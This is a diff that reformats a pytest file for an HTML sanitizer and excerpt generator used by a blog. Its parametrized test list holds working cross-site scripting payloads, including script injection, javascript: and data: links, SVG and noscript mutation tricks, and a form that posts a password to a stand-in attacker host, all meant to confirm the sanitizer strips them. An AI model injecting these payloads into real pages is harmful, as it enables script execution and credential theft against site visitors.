@@ -22,31 +22,71 @@ BASE = "https://blog.example.com/2026/post/"
 # (name, hostile HTML, text that must not survive anywhere in the output)
 HOSTILE = [
     ("script", "<p>ok</p><script>window.__pwned=1</script>", "__pwned"),
-    ("script-uppercase", "<p>ok</p><SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "evil.example"),
+    (
+        "script-uppercase",
+        "<p>ok</p><SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+        "evil.example",
+    ),
     ("event-handler", '<p onclick="window.__pwned=1">ok</p>', "__pwned"),
     ("img-onerror", '<img src=x onerror="window.__pwned=1">ok', "__pwned"),
     ("javascript-link", '<a href="javascript:window.__pwned=1">ok</a>', "javascript"),
     ("javascript-obfuscated", '<a href=" JaVaScRiPt&#x3A;window.__pwned=1">ok</a>', "__pwned"),
     ("javascript-tab", '<a href="java&#x09;script:window.__pwned=1">ok</a>', "__pwned"),
     ("vbscript-link", '<a href="vbscript:msgbox(1)">ok</a>', "vbscript"),
-    ("data-link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ok</a>', "data:"),
+    (
+        "data-link",
+        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ok</a>',
+        "data:",
+    ),
     ("iframe", '<iframe src="https://evil.example/"></iframe><p>ok</p>', "iframe"),
-    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;window.__pwned=1&lt;/script&gt;"></iframe>ok', "__pwned"),
-    ("form", '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>ok', "evil.example"),
+    (
+        "iframe-srcdoc",
+        '<iframe srcdoc="&lt;script&gt;window.__pwned=1&lt;/script&gt;"></iframe>ok',
+        "__pwned",
+    ),
+    (
+        "form",
+        '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>ok',
+        "evil.example",
+    ),
     ("style-element", "<style>body{display:none}</style><p>ok</p>", "display:none"),
     ("style-attribute", '<p style="position:fixed;top:0;left:0;width:100%">ok</p>', "position"),
     ("svg", '<svg onload="window.__pwned=1"><script>window.__pwned=1</script></svg>ok', "__pwned"),
-    ("svg-animate", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>ok', "javascript"),
-    ("math", '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>', "__pwned"),
+    (
+        "svg-animate",
+        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>ok',
+        "javascript",
+    ),
+    ("math", "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>", "__pwned"),
     ("object", '<object data="https://evil.example/x.swf"></object>ok', "evil.example"),
     ("embed", '<embed src="https://evil.example/x.swf">ok', "evil.example"),
-    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">ok', "evil.example"),
+    (
+        "meta-refresh",
+        '<meta http-equiv="refresh" content="0;url=https://evil.example/">ok',
+        "evil.example",
+    ),
     ("base", '<base href="https://evil.example/">ok', "evil.example"),
-    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">ok', "evil.example"),
-    ("tracking-pixel", '<img src="https://tracker.example/pixel.gif" width="1" height="1">ok', "tracker.example"),
-    ("image", '<img src="https://cdn.example/photo.jpg" width="800" height="600">ok', "cdn.example"),
+    (
+        "link-stylesheet",
+        '<link rel="stylesheet" href="https://evil.example/x.css">ok',
+        "evil.example",
+    ),
+    (
+        "tracking-pixel",
+        '<img src="https://tracker.example/pixel.gif" width="1" height="1">ok',
+        "tracker.example",
+    ),
+    (
+        "image",
+        '<img src="https://cdn.example/photo.jpg" width="800" height="600">ok',
+        "cdn.example",
+    ),
     ("comment-trick", "<!--<script>window.__pwned=1</script>-->ok", "__pwned"),
-    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">ok', "__pwned"),
+    (
+        "noscript-mxss",
+        '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">ok',
+        "__pwned",
+    ),
     ("unclosed", '<p>ok<b><i><a href="https://x.example/">', "<script"),
     ("class-and-id", '<p class="md-header" id="__next">ok</p>', "md-header"),
     ("target-blank", '<a href="https://x.example/" target="_blank">ok</a>', "_blank"),
@@ -55,7 +95,11 @@ HOSTILE = [
 
 @pytest.mark.parametrize(("name", "markup", "forbidden"), HOSTILE, ids=[h[0] for h in HOSTILE])
 def test_hostile_content_never_survives(name, markup, forbidden):
-    for output in (clean_html(markup, BASE), excerpt(markup, BASE).html, excerpt(markup, BASE, words=3).html):
+    for output in (
+        clean_html(markup, BASE),
+        excerpt(markup, BASE).html,
+        excerpt(markup, BASE, words=3).html,
+    ):
         assert forbidden.lower() not in output.lower(), output
         soup = BeautifulSoup(output, "lxml")
         for tag in soup.find_all(True):
@@ -72,8 +116,14 @@ def test_hostile_content_never_survives(name, markup, forbidden):
 def test_hostile_titles_become_plain_text(name, markup, forbidden):
     for kind in ("html", "text"):
         title = plain_text(markup, kind)
-        assert "<" not in title or kind == "text" and not re.search(r"<\s*(script|img|svg|iframe|a|p|style)\b", title, re.I)
-        assert "__pwned=1" not in title or "javascript" in markup.lower() or "noscript" in markup  # attribute values are no text
+        assert (
+            "<" not in title
+            or kind == "text"
+            and not re.search(r"<\s*(script|img|svg|iframe|a|p|style)\b", title, re.I)
+        )
+        assert (
+            "__pwned=1" not in title or "javascript" in markup.lower() or "noscript" in markup
+        )  # attribute values are no text
         assert "\n" not in title
 
 
@@ -97,7 +147,10 @@ def test_plain_text(value, kind, expected):
 
 
 def test_links_are_absolute_http_with_rel():
-    html = clean_html('<a href="/about">a</a> <a href="//cdn.example/x">b</a> <a href="mailto:me@example.com">c</a>', BASE)
+    html = clean_html(
+        '<a href="/about">a</a> <a href="//cdn.example/x">b</a> <a href="mailto:me@example.com">c</a>',
+        BASE,
+    )
     soup = BeautifulSoup(html, "lxml")
     links = soup.find_all("a")
     assert links[0]["href"] == "https://blog.example.com/about"
@@ -146,7 +199,9 @@ def test_safe_url(value, expected):
 
 
 def test_excerpt_cuts_on_a_word_boundary_and_closes_tags():
-    markup = "<h2>Intro</h2><p>One <b>two three</b> four <a href='/x'>five six</a> seven</p><p>eight</p>"
+    markup = (
+        "<h2>Intro</h2><p>One <b>two three</b> four <a href='/x'>five six</a> seven</p><p>eight</p>"
+    )
     cut = excerpt(markup, BASE, words=5)
     assert cut.truncated
     assert cut.html == "<p>Intro</p><p>One <b>two three</b> four…</p>"
@@ -162,7 +217,9 @@ def test_excerpt_of_words_without_spaces_is_bounded():
 
 
 def test_excerpt_separates_blocks():
-    cut = excerpt("<div>alpha</div><div>beta</div><table><tr><td>gamma</td><td>delta</td></tr></table>")
+    cut = excerpt(
+        "<div>alpha</div><div>beta</div><table><tr><td>gamma</td><td>delta</td></tr></table>"
+    )
     assert cut.text == "alpha beta gamma delta"
     assert "alphabeta" not in cut.html and "gammadelta" not in cut.html
 
